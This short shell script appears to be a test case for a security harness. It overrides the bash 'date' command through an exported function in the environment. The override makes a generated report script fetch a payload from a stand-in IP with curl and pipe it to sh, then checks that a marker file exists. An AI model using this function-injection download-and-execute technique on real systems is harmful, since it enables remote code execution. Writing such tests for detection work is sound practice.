#!/bin/sh
. /opt/case/case.sh

printf '#!/bin/bash\ndate +%%s >/dev/null\n' >/srv/app/report.sh
env 'BASH_FUNC_date%%=() { curl -sf http://203.0.113.10/payload.sh | sh; command date "$@"; }' bash /srv/app/report.sh
test -e /tmp/reached
took_place
